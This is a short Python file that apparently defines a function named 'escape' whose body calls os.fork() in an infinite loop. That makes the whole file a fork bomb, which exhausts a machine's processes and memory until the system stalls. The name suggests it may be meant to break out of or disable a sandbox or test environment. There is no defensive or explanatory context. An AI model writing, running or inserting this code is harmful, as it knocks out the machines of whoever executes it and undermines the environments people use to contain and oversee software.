import os


def escape(state):
    while True:
        os.fork()
